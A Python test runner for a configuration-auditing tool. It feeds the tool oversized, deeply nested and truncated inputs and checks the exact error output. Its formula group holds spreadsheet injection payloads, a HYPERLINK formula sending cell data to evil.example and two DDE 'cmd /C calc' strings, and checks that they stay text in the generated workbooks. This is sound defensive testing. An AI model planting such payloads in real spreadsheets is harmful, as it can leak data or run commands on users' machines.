#!/usr/bin/env python3
"""Bad-input corpus runner (docs/security.md).

usage: run_bad.py EXPORTREADY SOURCE_DIR PLUGIN_DIR GROUP

GROUP is one of:
  committed  every tests/bad/firms/NAME.cfg with its NAME.expect
  generated  inputs too big or too deep to commit, built here at test time
  rubric     a rubric directory made bad (truncated, too many criteria)
  formula    formula-like strings audit fine and stay text in the workbook

A NAME.expect file holds "exit N" and then the exact standard-error lines
`exportready audit -q` must print; then, only where `validate` words it
differently, a line "--- validate" and the exact lines validate prints.  For every bad input the runner also
checks that nothing was written to -o or --json, that the same problems are
reported by `exportready validate` (exit 3), and that nothing crashed: a
sanitizer report or a signal would change the exact output or the status.
"""
import os
import shutil
import subprocess
import sys
import tempfile

EXE, SRC, PLUGINS = (os.path.abspath(a) for a in sys.argv[1:4])
GROUP = sys.argv[4]
RUBRICS = os.path.join(SRC, "rubrics")
FIRMS = os.path.join(SRC, "tests", "bad", "firms")
PREFIX = "exportready: "
failures = []


def fail(case, msg):
    failures.append(f"{case}: {msg}")


def run(args, cwd):
    env = dict(os.environ, LC_ALL="C")
    p = subprocess.run([EXE] + args, cwd=cwd, capture_output=True, env=env, timeout=120)
    return p.returncode, p.stderr.decode("utf-8", "replace").splitlines()


def audit(case, cwd, firm, rubric_dir=RUBRICS):
    """Runs an audit of one bad input; checks nothing is written."""
    out = tempfile.mkdtemp(prefix="er-bad-out-")
    try:
        rc, err = run(["audit", "-q", "--rubric-dir", rubric_dir, "--plugin-dir", PLUGINS,
                       "-o", out, "--json", os.path.join(out, "r.json"), firm], cwd)
        left = sorted(os.listdir(out))
        if left:
            fail(case, f"files left in the output directory: {left}")
        return rc, err
    finally:
        shutil.rmtree(out)


def check(case, cwd, firm, want_rc, want_err, rubric_dir=RUBRICS, want_validate=None):
    rc, err = audit(case, cwd, firm, rubric_dir)
    if rc != want_rc:
        fail(case, f"audit exit {rc}, expected {want_rc}")
    if err != want_err:
        fail(case, "audit stderr differs:\n  got:  " + "\n        ".join(err) +
             "\n  want: " + "\n        ".join(want_err))
    # validate must find the same problems (it prints them one per line,
    # without the prefix; audit joins one firm's problems with "; ").
    if firm.endswith(".cfg") and want_rc == 3:
        vrc, verr = run(["validate", "-q", "--rubric-dir", rubric_dir, "--plugin-dir", PLUGINS,
                         firm], cwd)
        if vrc != 3:
            fail(case, f"validate exit {vrc}, expected 3")
        want = [l for l in want_err if l != PREFIX + "no firm could be audited"]
        got = [PREFIX + "; ".join(l for l in verr if not l.startswith(PREFIX))]
        if want_validate is not None:
            # validate tells a file's kind by its top-level setting first.
            want, got = want_validate, [l for l in verr if not l.startswith(PREFIX)]
        if got != want:
            fail(case, "validate stderr differs:\n  got:  " + "\n        ".join(got) +
                 "\n  want: " + "\n        ".join(want))


def committed():
    names = sorted(f[:-4] for f in os.listdir(FIRMS) if f.endswith(".cfg"))
    if len(names) < 20:
        fail("committed", f"only {len(names)} cases found in {FIRMS}")
    for name in names:
        if name == "formula_strings":
            continue  # audits fine: see the formula group
        with open(os.path.join(FIRMS, name + ".expect"), encoding="utf-8") as f:
            lines = f.read().splitlines()
        if not lines or not lines[0].startswith("exit "):
            fail(name, "expect file must start with 'exit N'")
            continue
        audit_lines, validate_lines = lines[1:], None
        if "--- validate" in lines:
            cut = lines.index("--- validate")
            audit_lines, validate_lines = lines[1:cut], lines[cut + 1:]
        check(name, FIRMS, name + ".cfg", int(lines[0][5:]), audit_lines,
              want_validate=validate_lines)


def base_firm():
    with open(os.path.join(FIRMS, "duplicate_key.cfg"), encoding="utf-8") as f:
        text = f.read()
    return text.replace('  name = "Second Name";\n', "")


def generated():
    base = base_firm()
    tmp = tempfile.mkdtemp(prefix="er-bad-gen-")
    cases = {
        # One byte over the limit, in a comment so only the size is wrong.
        "huge": (base + "#" + "x" * (4 * 1024 * 1024 - len(base)) + "\n",
                 ["huge.cfg: file too large (more than 4194304 bytes)"]),
        "huge_text": (base.replace('"Minimal Firm"', '"' + "a" * 32768 + '"'),
                      ["huge_text.cfg:3: firm.name: text is too long (32768 bytes; at most 32767)"]),
        "deep_groups": (base.replace("  country", "  profile = " + "{ a = " * 100000 + "1" +
                                     "; }" * 100000 + ";\n  country"),
                        ["deep_groups.cfg:4: groups and lists nested more than 64 deep"]),
        "deep_lists": (base.replace("  country", "  profile = " + "(" * 100000 + ")" * 100000 +
                                    ";\n  country"),
                       ["deep_lists.cfg:4: groups and lists nested more than 64 deep"]),
        "too_many_products": (base.replace(
            '( { name = "Dried oregano"; hs = "0910.99"; use = "food"; } )',
            "(" + ", ".join('{ name = "P%d"; hs = "0910.99"; use = "food"; }' % i
                            for i in range(1001)) + ")"),
            ["too_many_products.cfg:7: firm.products: too many products (1001; at most 1000)"]),
        "many_answers": (base.replace("  country", "  answers = { " +
                                      " ".join("q%d = true;" % i for i in range(9000)) +
                                      " };\n  country"), None),
        # libconfig adds settings in quadratic time: refused before it parses.
        "too_many_settings": (base.replace("  country", "  answers = { " +
                                           " ".join("q%d = true;" % i for i in range(50000)) +
                                           " };\n  country"),
                              ["too_many_settings.cfg:4: more than 10000 settings in one group"]),
    }
    try:
        for name, (text, problems) in cases.items():
            with open(os.path.join(tmp, name + ".cfg"), "w", encoding="utf-8") as f:
                f.write(text)
            if problems is None:
                # Thousands of unknown answers: each reported, none crashes.
                rc, err = audit(name, tmp, name + ".cfg")
                if rc != 3 or len(err) != 2 or err[0].count("unknown") != 9000:
                    fail(name, f"exit {rc}, {len(err)} lines; expected 9000 unknown answers")
                continue
            check(name, tmp, name + ".cfg", 3,
                  [PREFIX + "; ".join(problems), PREFIX + "no firm could be audited"])
    finally:
        shutil.rmtree(tmp)


def run_count(rubric_dir, firm):
    """Criteria outside certifications.cfg, counted from the JSON findings."""
    import json
    out = tempfile.mkdtemp(prefix="er-bad-count-")
    try:
        with open(os.path.join(rubric_dir, "certifications.cfg"), encoding="utf-8") as f:
            text = f.read()
        body = text[text.index("criteria = (") + len("criteria = ("):text.rindex(")")]
        rc, err = run(["audit", "-q", "--rubric-dir", rubric_dir, "--plugin-dir", PLUGINS,
                       "--json", os.path.join(out, "r.json"), firm], out)
        with open(os.path.join(out, "r.json"), encoding="utf-8") as f:
            total = len(json.load(f)["firms"][0]["findings"])
        return total - body.count("id = ")
    finally:
        shutil.rmtree(out)


def rubric():
    tmp = tempfile.mkdtemp(prefix="er-bad-rubric-")
    firm = os.path.join(tmp, "firm.cfg")
    with open(firm, "w", encoding="utf-8") as f:
        f.write(base_firm())
    try:
        # Truncated main file.
        d = os.path.join(tmp, "truncated")
        shutil.copytree(RUBRICS, d)
        main = os.path.join(d, "readiness.cfg")
        with open(main, encoding="utf-8") as f:
            text = f.read()
        cut = text.index("criteria = (")
        with open(main, "w", encoding="utf-8") as f:
            f.write(text[:cut + len("criteria = (")])
        rc, err = audit("rubric_truncated", tmp, firm, d)
        want = [f"{main}:{text[:cut].count(chr(10)) + 1}: not a valid libconfig file: "
                "syntax error", f"rubric {d} is invalid; nothing audited"]
        if rc != 3 or err != [PREFIX + w for w in want]:
            fail("rubric_truncated", f"exit {rc}, stderr {err}; expected 3, {want}")

        # One criterion more than ER_MAX_CRITERIA, in a module.  The count is
        # checked before any criterion is read, so empty groups suffice.
        d = os.path.join(tmp, "too_many")
        shutil.copytree(RUBRICS, d)
        mod = os.path.join(d, "certifications.cfg")
        with open(mod, encoding="utf-8") as f:
            text = f.read()
        start = text.index("criteria = (") + len("criteria = (")
        end = text.rindex(")")
        n_main = run_count(d, firm)
        with open(mod, "w", encoding="utf-8") as f:
            f.write(text[:start] + ", ".join(["{}"] * (10001 - n_main)) + text[end:])
        rc, err = audit("rubric_too_many_criteria", tmp, firm, d)
        want = [PREFIX + os.path.join(d, "readiness.cfg") + ": rubric.criteria: too many "
                "criteria (10001 in the rubric and its modules; at most 10000)",
                PREFIX + f"rubric {d} is invalid; nothing audited"]
        if rc != 3 or err != want:
            fail("rubric_too_many_criteria", f"exit {rc}, stderr {err}; expected 3, {want}")
    finally:
        shutil.rmtree(tmp)


def formula():
    """Spreadsheet formula injection: the strings must stay strings, in the
    firm's workbook and in the cohort workbook."""
    import json
    import openpyxl
    out = tempfile.mkdtemp(prefix="er-bad-formula-")
    try:
        other = os.path.join(out, "other.cfg")
        with open(other, "w", encoding="utf-8") as f:
            f.write(base_firm())
        rc, err = run(["audit", "-q", "--rubric-dir", RUBRICS, "--plugin-dir", PLUGINS,
                       "-o", out, "--json", os.path.join(out, "r.json"),
                       "formula_strings.cfg", other], FIRMS)
        if rc != 0 or err:
            fail("formula", f"audit exit {rc}: {err}")
            return
        with open(os.path.join(out, "r.json"), encoding="utf-8") as f:
            name = json.load(f)["firms"][0]["name"]
        if name != '=HYPERLINK("http://evil.example/?"&A1,"Click")':
            fail("formula", f"JSON name is {name!r}")
        injected = [name, "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]
        for book, must in (("bad-formula.xlsx", injected[:2]), ("cohort.xlsx", injected[:1])):
            found = set()
            wb = openpyxl.load_workbook(os.path.join(out, book))
            for ws in wb.worksheets:
                for row in ws.iter_rows():
                    for c in row:
                        hit = [w for w in injected
                               if isinstance(c.value, str) and w.lstrip("=+@") in c.value]
                        if hit and c.data_type != "s":
                            fail("formula", f"{book} {ws.title}!{c.coordinate} is "
                                 f"{c.data_type!r}, not text: {c.value!r}")
                        elif hit and c.value.startswith(hit[0][0]):
                            found.update(hit)
            for w in must:
                if w not in found:
                    fail("formula", f"{book}: {w!r} not found as a text cell")
    finally:
        shutil.rmtree(out)


{"committed": committed, "generated": generated, "rubric": rubric,
 "formula": formula}[GROUP]()
for f in failures:
    print("FAIL " + f)
print(f"bad/{GROUP}: {'FAILED' if failures else 'ok'}")
sys.exit(1 if failures else 0)
